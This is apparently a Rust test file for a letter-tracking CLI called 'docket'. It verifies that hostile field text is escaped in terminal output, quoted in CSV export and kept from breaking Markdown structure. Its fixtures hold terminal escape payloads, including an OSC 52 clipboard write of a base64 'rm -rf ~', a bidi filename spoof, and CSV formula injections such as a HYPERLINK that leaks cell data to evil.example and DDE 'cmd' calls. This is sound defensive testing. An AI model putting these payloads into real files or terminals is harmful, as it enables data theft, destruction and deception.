//! Issue 12, points 6 to 8: hostile text in the data file cannot act on the
//! terminal (control characters are shown as escapes, a line break cannot
//! forge a table row), cannot become a spreadsheet formula in CSV, and cannot
//! change the structure of the Markdown docket writes.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "a test stops loudly where it breaks"
)]

mod support;

use std::path::PathBuf;
use std::sync::Arc;

use docket::model::{City, Closing, Docket, Extension, Letter, Reply, ReplyKind};
use proptest::prelude::*;
use support::cli::{docket, empty_file, fails, import, ok, stderr};
use support::files::{data_file, load, write};
use support::letters::{date, letter};
use tempfile::TempDir;

/// Escape sequences a terminal acts on: OSC 52 (writes the clipboard), OSC 0
/// (sets the window title), `ESC c` (resets the terminal), a C1 CSI.
const CLIPBOARD: &str = "\x1b]52;c;cm0gLXJmIH4=\x07";
const TITLE: &str = "\x1b]0;owned\x07";
const RESET: &str = "\x1bc";
const CSI: &str = "\u{9b}31m";
/// Right-to-left override ... pop: makes `txt.exe` read as `exe.txt`.
const BIDI: &str = "\u{202e}exe.txt\u{202c}";
const ISOLATE: &str = "\u{2067}x\u{2069}";

/// Whether a terminal would act on `c` rather than show it.
fn hidden(c: char) -> bool {
    matches!(c, '\0'..='\u{1f}' | '\u{7f}'..='\u{9f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// Asserts that `text` holds no character a terminal acts on, but the
/// `allowed` ones (some of `\n`, `\t`).
#[track_caller]
fn assert_shown(what: &str, text: &str, allowed: &[char]) {
    if let Some(c) = text.chars().find(|c| hidden(*c) && !allowed.contains(c)) {
        panic!("{what} writes {c:?} raw:\n{text}");
    }
}

/// A city and a letter (with a reply, an extension and a closing) whose
/// every text holds escape sequences, bidi controls and line breaks.
fn hostile_docket() -> Docket {
    let city = City {
        id: "reno".to_owned(),
        name: format!("Reno{TITLE}"),
        state: format!("NV{ISOLATE}"),
        notes: String::new(),
        log: Vec::new(),
    };
    let letter = letter(format!("reno{RESET}-1"), "reno", "2017-08-03")
        .from(format!("DOJ{CLIPBOARD}"))
        .to(format!("Police\x08\x08\x08\x08\x08\x08Mayor{CSI}"))
        .subject(format!("Partnership{BIDI}\nreno-2  Reno  open  fake row"))
        .program("PSP\u{7f}\u{85}")
        .due("2017-08-18")
        .demands([format!("access{TITLE}"), "notify\x07\r\nagents".to_owned()])
        .summary(format!("First line{RESET}\nsecond line{BIDI}"))
        .source(format!("AP{CSI}"))
        .tags([format!("tag{ISOLATE}")])
        .replies([Reply {
            id: String::new(),
            source: None,
            on: date("2017-08-10"),
            from: format!("City{CLIPBOARD}\nfake header"),
            kind: ReplyKind::AsksExtension,
            summary: format!("asks{TITLE}"),
        }])
        .extensions([Extension {
            id: String::new(),
            granted_on: date("2017-08-15"),
            new_due: date("2017-08-25"),
            note: format!("note{RESET}"),
        }])
        .closing(Closing {
            id: String::new(),
            reopened_on: None,
            on: date("2017-08-20"),
            outcome: format!("outcome{BIDI}"),
        })
        .build();
    docket_of(vec![city], vec![letter])
}

fn docket_of(cities: Vec<City>, letters: Vec<Letter>) -> Docket {
    let mut docket = Docket::new();
    docket.cities = cities;
    docket.letters = letters.into_iter().map(Arc::new).collect();
    docket
}

fn reno() -> City {
    City {
        id: "reno".to_owned(),
        name: "Reno".to_owned(),
        state: "NV".to_owned(),
        notes: String::new(),
        log: Vec::new(),
    }
}

/// A temp folder holding `docket` as `docket.ron`.
fn file_of(docket: &Docket) -> (TempDir, PathBuf) {
    data_file(&docket::store::to_ron(docket))
}

fn hostile_id() -> String {
    format!("reno{RESET}-1")
}

// Point 6: no control characters reach a terminal.

#[test]
fn text_commands_show_control_characters_as_escapes() {
    let (_dir, file) = file_of(&hostile_docket());
    let id = hostile_id();
    let runs: [(&[&str], &[char]); 8] = [
        (&["--as-of", "2017-08-12", "list"], &['\n']),
        (&["--as-of", "2017-08-21", "list"], &['\n']),
        (&["--as-of", "2017-08-12", "due", "--within", "7"], &['\n']),
        (&["--as-of", "2017-08-21", "show", &id], &['\n', '\t']),
        (&["--as-of", "2017-08-12", "show", &id], &['\n', '\t']),
        (&["digest", "--date", "2017-08-03"], &['\n', '\t']),
        (&["digest", "--date", "2017-08-10"], &['\n', '\t']),
        (
            &["--as-of", "2017-08-21", "export", "--format", "md"],
            &['\n', '\t'],
        ),
    ];
    for (args, allowed) in runs {
        let out = ok(&docket(&file, args));
        assert_shown(&format!("{args:?}"), &out, allowed);
        assert!(out.contains("\\x1b"), "{args:?} shows ESC as \\x1b:\n{out}");
    }
    let show = ok(&docket(&file, &["--as-of", "2017-08-21", "show", &id]));
    for shown in [
        "\\x1b]52;c;",
        "\\x1bc",
        "\\u{9b}31m",
        "\\u{202e}exe.txt\\u{202c}",
    ] {
        assert!(show.contains(shown), "show writes {shown}:\n{show}");
    }
    for shown in ["\\x07", "\\x08", "\\x7f", "\\u{85}", "\\u{2067}x\\u{2069}"] {
        assert!(show.contains(shown), "show writes {shown}:\n{show}");
    }
    let digest = ok(&docket(&file, &["digest", "--date", "2017-08-10"]));
    assert!(digest.contains("City\\x1b\\]52;c;"), "{digest}");
}

#[test]
fn a_line_break_in_a_field_cannot_forge_a_table_row() {
    let (_dir, file) = file_of(&hostile_docket());
    for command in [&["list"][..], &["due", "--within", "7"]] {
        let out = ok(&docket(
            &file,
            &[&["--as-of", "2017-08-12"], command].concat(),
        ));
        assert_eq!(out.lines().count(), 2, "a header and one row:\n{out}");
        assert!(
            out.contains("Partnership\\u{202e}exe.txt\\u{202c}\\nreno-2  Reno  open  fake row"),
            "{out}"
        );
    }
    let show = ok(&docket(
        &file,
        &["--as-of", "2017-08-21", "show", &hostile_id()],
    ));
    // The header's fields are one line each, as are a reply's sender...
    assert!(
        show.contains("\nSubject  Partnership\\u{202e}exe.txt\\u{202c} reno-2"),
        "{show}"
    );
    assert!(!show.lines().any(|l| l.starts_with("fake")), "{show}");
    assert!(
        !show
            .lines()
            .any(|l| l.trim_start().starts_with("fake header")),
        "{show}"
    );
    // ...and a demand's second line stays under the demand, not a demand.
    assert!(
        show.contains("\n  - notify\\x07\\r\n    agents\n"),
        "{show}"
    );
}

#[test]
fn show_keeps_a_summary_of_several_lines_readable() {
    let letter = letter("reno-1", "reno", "2017-08-03")
        .from("DOJ")
        .to("Police")
        .subject("Partnership")
        .demands(["Give access\nto the jails", "Notify"])
        .summary("First paragraph.\n\n\tSecond, indented.")
        .build();
    let (_dir, file) = file_of(&docket_of(vec![reno()], vec![letter]));
    let out = ok(&docket(&file, &["--as-of", "2017-08-10", "show", "reno-1"]));
    assert!(
        out.contains("\nSummary\n  First paragraph.\n  \n  \tSecond, indented.\n"),
        "{out}"
    );
    assert!(
        out.contains("\nDemands\n  - Give access\n    to the jails\n  - Notify\n"),
        "{out}"
    );
}

#[test]
fn json_stays_exact() {
    let hostile = hostile_docket();
    let (_dir, file) = file_of(&hostile);
    let original = &hostile.letters[0];
    let out = ok(&docket(&file, &["--as-of", "2017-08-12", "list", "--json"]));
    let list: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(list[0]["subject"], original.subject.as_str());
    assert_eq!(list[0]["id"], original.id.as_str());
    let id = hostile_id();
    let out = ok(&docket(
        &file,
        &["--as-of", "2017-08-21", "show", &id, "--json"],
    ));
    let show: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(show["summary"], original.summary.as_str());
    assert_eq!(show["from"], original.from.as_str());
    let out = ok(&docket(&file, &["export", "--format", "json"]));
    let exported = docket::import::json::parse(&out).unwrap();
    assert_eq!(exported.letters, hostile.letters);
}

#[test]
fn import_shows_control_characters_as_escapes() {
    let dir = TempDir::new().unwrap();
    let csv = format!(
        "id,city,city_name,from,to,subject,sent\n\
         \"{RESET}a{BIDI}\nb\",reno,Reno{TITLE},DOJ,Police,S{CSI},2017-08-03\n"
    );
    let input = write(&dir, "in.csv", &csv);
    for dry_run in [&["--dry-run"][..], &[]] {
        let target = TempDir::new().unwrap();
        let file = empty_file(&target);
        let out = import(&file, "csv", &input, dry_run);
        let said = ok(&out);
        assert_shown("import", &said, &['\n']);
        assert_shown("import", &stderr(&out), &['\n']);
        assert!(
            said.contains("letter \\x1bca\\u{202e}exe.txt\\u{202c}\\nb\n"),
            "{said}"
        );
    }
}

#[test]
fn error_messages_show_control_characters_as_escapes() {
    let dir = TempDir::new().unwrap();
    // A path that does not exist.
    let missing = dir.path().join(format!("gone{TITLE}{BIDI}.ron"));
    let err = fails(&docket(&missing, &["check"]), 1);
    assert_shown("check", &err, &['\n']);
    assert!(
        err.contains("gone\\x1b]0;owned\\x07\\u{202e}exe.txt"),
        "{err}"
    );
    // A value clap refuses.
    let file = empty_file(&dir);
    let err = fails(
        &docket(&file, &["--as-of", &format!("{CLIPBOARD}{BIDI}"), "list"]),
        2,
    );
    assert_shown("a usage error", &err, &['\n']);
    // (clap itself drops the escape sequences of the value it quotes.)
    assert!(err.contains("'\\u{202e}exe.txt\\u{202c}'"), "{err}");
    let err = fails(&docket(&file, &["list", "--status", RESET]), 2);
    assert_shown("a usage error", &err, &['\n']);
    // A value docket refuses.
    let err = fails(
        &docket(
            &file,
            &["add", "city", "--id", &format!("x{CSI}"), "--name", "X"],
        ),
        1,
    );
    assert_shown("add", &err, &['\n']);
    // An import from a file whose name and cells are hostile.
    let input = write(
        &dir,
        &format!("in{RESET}\n.csv"),
        &format!("id,city\n{BIDI},\n"),
    );
    let out = import(&file, "csv", &input, &[]);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert_shown("import", &err, &['\n']);
    assert!(err.contains("in\\x1bc\\n.csv"), "{err}");
    // The notes an import writes.
    let input = write(
        &dir,
        "notes.csv",
        &format!(
            "id,city,city_name,from,to,subject,sent,replies\nr{RESET},reno,Reno,DOJ,Police,S,2017-08-03,2\n"
        ),
    );
    let out = import(&file, "csv", &input, &["--dry-run"]);
    ok(&out);
    assert_shown("import's notes", &stderr(&out), &['\n']);
}

#[test]
fn the_interface_shows_no_control_characters() {
    use docket::tui::app::App;
    use docket::tui::theme::Theme;
    use ratatui::Terminal;
    use ratatui::backend::TestBackend;

    let mut app = App::new(
        hostile_docket(),
        date("2017-08-21"),
        date("2017-08-21"),
        Theme::COLOR,
    );
    for actions in [
        &[][..],
        &[
            docket::tui::action::Action::Open,
            docket::tui::action::Action::Open,
        ][..],
    ] {
        for action in actions {
            app.update(action.clone());
        }
        let mut terminal = Terminal::new(TestBackend::new(120, 40)).unwrap();
        terminal
            .draw(|frame| docket::tui::ui::draw(frame, &app))
            .unwrap();
        let buffer = terminal.backend().buffer();
        let mut screen = String::new();
        for cell in &buffer.content {
            assert_shown("the interface", cell.symbol(), &[]);
            screen.push_str(cell.symbol());
        }
        assert!(screen.contains("Reno"), "{screen}");
    }
}

// Point 7: CSV cells cannot become formulas.

/// A letter whose texts a spreadsheet would run as formulas, overdue as
/// of 2017-08-21 (a negative count of days left).
fn formula_letter() -> Letter {
    letter("reno-2017-08-03", "reno", "2017-08-03")
        .from("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")
        .to("@SUM(1+1)*cmd|' /C calc'!A0")
        .subject("+1+2")
        .program("=cmd|' /C calc'!A0")
        .due("2017-08-18")
        .demands(["-2+3", "=1"])
        .summary("\t=1+1")
        .source("\r=1")
        .tags(["'=already quoted", "''@twice"])
        .closing(Closing {
            id: String::new(),
            reopened_on: None,
            on: date("2017-08-30"),
            outcome: "'plain quote".to_owned(),
        })
        .build()
}

/// The cells of the CSV's second row, by column name.
fn csv_row(text: &str) -> Vec<(String, String)> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header = reader.headers().unwrap().clone();
    let row = reader.records().next().unwrap().unwrap();
    header
        .iter()
        .map(str::to_owned)
        .zip(row.iter().map(str::to_owned))
        .collect()
}

#[test]
fn csv_cells_that_would_start_a_formula_are_quoted() {
    let (_dir, file) = file_of(&docket_of(vec![reno()], vec![formula_letter()]));
    let out = ok(&docket(
        &file,
        &["--as-of", "2017-08-21", "export", "--format", "csv"],
    ));
    let row = csv_row(&out);
    let cell = |name: &str| row.iter().find(|(n, _)| n == name).unwrap().1.clone();
    assert_eq!(
        cell("from"),
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    );
    assert_eq!(cell("to"), "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(cell("subject"), "'+1+2");
    assert_eq!(cell("program"), "'=cmd|' /C calc'!A0");
    assert_eq!(cell("demands"), "'-2+3 | =1");
    assert_eq!(cell("summary"), "'\t=1+1");
    assert_eq!(cell("source"), "'\r=1");
    assert_eq!(cell("tags"), "''=already quoted | ''@twice");
    assert_eq!(cell("outcome"), "'plain quote");
    // Dates and numbers are as they are.
    assert_eq!(cell("sent"), "2017-08-03");
    assert_eq!(cell("days_left"), "-3");
    assert_eq!(cell("business_days_left"), "-1");
    assert_eq!(cell("closed_on"), "2017-08-30");
    for (name, value) in &row {
        let formula = value.starts_with(['=', '+', '-', '@', '\t', '\r']);
        assert!(!formula || name.ends_with("days_left"), "{name}: {value:?}");
    }
}

#[test]
fn csv_export_then_import_gives_the_texts_back_exactly() {
    let (dir, file) = file_of(&docket_of(vec![reno()], vec![formula_letter()]));
    let out = ok(&docket(
        &file,
        &["--as-of", "2017-08-21", "export", "--format", "csv"],
    ));
    let input = write(&dir, "out.csv", &out);
    let target = empty_file(&dir);
    ok(&import(&target, "csv", &input, &[]));
    let mut imported = load(&target);
    // Each record's log says where it came from; the rest is the texts as they were.
    let letter = std::sync::Arc::make_mut(&mut imported.letters[0]);
    let logged = std::mem::take(&mut letter.log);
    assert_eq!(logged[0].what, "imported from out.csv");
    assert_eq!(*letter, formula_letter());
    assert_eq!(imported.cities[0].log[0].what, "imported from out.csv");
    imported.cities[0].log.clear();
    assert_eq!(imported.cities, [reno()]);
}

/// Text that starts like a formula, quoted or not, more often than not.
fn formula_text() -> impl Strategy<Value = String> {
    let start = prop::sample::select(vec![
        "", "'", "''", "=", "+", "-", "@", "\t", "\r", "'=", "''+", "'a", "\n",
    ]);
    (start, support::strategies::text()).prop_map(|(start, rest)| format!("{start}{rest}"))
}

/// An item of a list cell: not empty and without the separator.
fn item() -> impl Strategy<Value = String> {
    formula_text().prop_filter("an item of a list cell", |t| {
        !t.is_empty() && !t.contains('|')
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn csv_round_trips_any_text(
        (from, to, subject, summary, outcome) in (formula_text(), formula_text(), formula_text(), formula_text(), formula_text()),
        program in formula_text().prop_filter("not empty", |t| !t.is_empty()),
        demands in prop::collection::vec(item(), 0..3),
        tags in prop::collection::vec(item(), 0..3),
        (name, state) in (formula_text(), formula_text()),
    ) {
        let city = City { name, state, ..reno() };
        let letter = letter("reno-1", "reno", "2017-08-03")
            .from(from)
            .to(to)
            .subject(subject)
            .program(program.clone())
            .source(program)
            .demands(demands)
            .summary(summary)
            .tags(tags)
            .closing(Closing { id: String::new(), reopened_on: None,  on: date("2017-08-30"), outcome })
            .build();
        let docket = docket_of(vec![city.clone()], vec![letter.clone()]);
        let text = docket::export::csv::to_csv(&docket, date("2017-08-21"));
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        for record in reader.records() {
            for cell in &record.unwrap() {
                prop_assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
            }
        }
        let parsed = docket::import::csv::parse(&text);
        prop_assert_eq!(parsed.errors, []);
        // A CSV row carries no entry ids: the docket gives them as it adds the row.
        let mut row = parsed.rows[0].letter.clone();
        row.assign_entry_ids();
        prop_assert_eq!(&row, &letter);
        prop_assert_eq!(&parsed.rows[0].city_name, &city.name);
        prop_assert_eq!(&parsed.rows[0].state, &city.state);
    }
}

// Point 8: Markdown keeps its structure.

/// A letter whose summary and demands start like Markdown blocks.
fn markdown_letter() -> Letter {
    letter("reno-2017-08-03", "reno", "2017-08-03")
        .from("- From: a fake fact")
        .to("1. To")
        .subject("# Subject ##")
        .due("2017-08-18")
        .demands([
            "# a heading",
            "- a fake fact",
            "* a star",
            "+ a plus",
            "1. one",
            "2) two",
            "> a quote",
            "---",
            "```rust",
            "~~~",
            "    indented code",
            "=====",
            "text\n# a heading inside\n- a fact inside\n```\n> quoted",
        ])
        .summary("- Status: a fake status")
        .source("--- a rule?")
        .replies([Reply {
            id: String::new(),
            source: None,
            on: date("2017-08-10"),
            from: "# City".to_owned(),
            kind: ReplyKind::Disputes,
            summary: "```\n# heading\n---".to_owned(),
        }])
        .build()
}

/// Whether `text` starts like a Markdown block other than a paragraph:
/// a heading, a list item, a quote, a rule, a fence or indented code.
fn starts_a_block(text: &str) -> bool {
    let ordered = text.trim_start_matches(|c: char| c.is_ascii_digit());
    text.starts_with([' ', '\t', '#', '-', '+', '>', '=', '~', '`', '_'])
        || (text.starts_with('*') && !text.starts_with("**"))
        || (ordered.len() < text.len() && ordered.starts_with(['.', ')']))
}

/// The lines where user text starts a Markdown block of its own: those
/// that are not a heading docket writes, nor an item `- ` docket writes
/// holding text, nor a paragraph of text; and the headings whose text ends
/// with a closing sequence (` #`) that would be dropped.
fn block_starts(markdown: &str) -> Vec<String> {
    let docket_s_heading = |l: &str| ["# ", "## ", "### "].iter().any(|h| l.starts_with(h));
    markdown
        .lines()
        .filter(|line| match line.strip_prefix("- ") {
            Some(item) => starts_a_block(item),
            None if docket_s_heading(line) => {
                line.trim_end().ends_with(" #") || line.trim_end().ends_with(" ##")
            }
            None => starts_a_block(line),
        })
        .map(str::to_owned)
        .collect()
}

#[test]
fn markdown_user_text_stays_the_text_of_its_item() {
    let (_dir, file) = file_of(&docket_of(vec![reno()], vec![markdown_letter()]));
    let out = ok(&docket(
        &file,
        &["--as-of", "2017-08-21", "export", "--format", "md"],
    ));
    assert_eq!(block_starts(&out), Vec::<String>::new(), "\n{out}");
    for line in [
        "### \\# Subject \\##",
        "- From: \\- From: a fake fact",
        "- To: 1\\. To",
        "- Source: \\--- a rule?",
        "\\- Status: a fake status",
        "- \\# a heading",
        "- \\- a fake fact",
        "- \\* a star",
        "- \\+ a plus",
        "- 1\\. one",
        "- 2\\) two",
        "- \\> a quote",
        "- \\---",
        "- \\`\\`\\`rust",
        "- \\~~~",
        "- indented code",
        "- \\=====",
        "- text # a heading inside - a fact inside \\`\\`\\` \\> quoted",
    ] {
        assert!(out.lines().any(|l| l == line), "no line {line:?} in\n{out}");
    }
    // The headings are docket's: the title, the city and the letter.
    let headings: Vec<&str> = out.lines().filter(|l| l.starts_with('#')).collect();
    assert_eq!(headings.len(), 3, "{headings:?}");
}

#[test]
fn the_digest_keeps_its_structure() {
    let mut hostile = docket_of(vec![reno()], vec![markdown_letter()]);
    hostile.cities[0].name = "# Reno".to_owned();
    let (_dir, file) = file_of(&hostile);
    for day in ["2017-08-03", "2017-08-10", "2017-08-18", "2017-08-21"] {
        let out = ok(&docket(&file, &["digest", "--date", day]));
        assert_eq!(block_starts(&out), Vec::<String>::new(), "\n{out}");
        let headings = out.lines().filter(|l| l.starts_with('#')).count();
        assert_eq!(headings, 8, "{out}");
        for line in out.lines().filter(|l| l.starts_with("- ")) {
            assert!(
                line.starts_with("- **\\# Reno** `reno-2017-08-03`: "),
                "{line}"
            );
        }
    }
}

#[test]
fn matter_and_chronology_show_control_characters_as_escapes() {
    let mut hostile = hostile_docket();
    let matter = format!("psp{RESET}");
    Arc::make_mut(&mut hostile.letters[0]).matter = Some(matter.clone());
    let (_dir, file) = file_of(&hostile);
    let runs: [&[&str]; 5] = [
        &["--as-of", "2017-08-21", "matter"],
        &["--as-of", "2017-08-21", "matter", &matter],
        &["--as-of", "2017-08-21", "chronology"],
        &["--as-of", "2017-08-21", "chronology", "--format", "md"],
        &["--as-of", "2017-08-12", "chronology"],
    ];
    for args in runs {
        let out = ok(&docket(&file, args));
        assert_shown(&format!("{args:?}"), &out, &['\n']);
        assert!(out.contains("\\x1b"), "{args:?} shows ESC as \\x1b:\n{out}");
    }
}

#[test]
fn the_story_screens_show_no_control_characters() {
    use docket::tui::action::Action;
    use docket::tui::app::App;
    use docket::tui::theme::Theme;
    use ratatui::Terminal;
    use ratatui::backend::TestBackend;

    let mut hostile = hostile_docket();
    Arc::make_mut(&mut hostile.letters[0]).matter = Some(format!("psp{RESET}"));
    let mut app = App::new(
        hostile,
        date("2017-08-21"),
        date("2017-08-21"),
        Theme::COLOR,
    );
    for action in [Action::Open, Action::ShowMatter, Action::ShowChronology] {
        app.update(action);
        for (width, height) in [(120, 40), (80, 24)] {
            let mut terminal = Terminal::new(TestBackend::new(width, height)).unwrap();
            terminal
                .draw(|frame| docket::tui::ui::draw(frame, &app))
                .unwrap();
            let mut screen = String::new();
            for cell in &terminal.backend().buffer().content {
                assert_shown("a story screen", cell.symbol(), &[]);
                screen.push_str(cell.symbol());
            }
            assert!(screen.contains("Reno"), "{screen}");
        }
    }
}
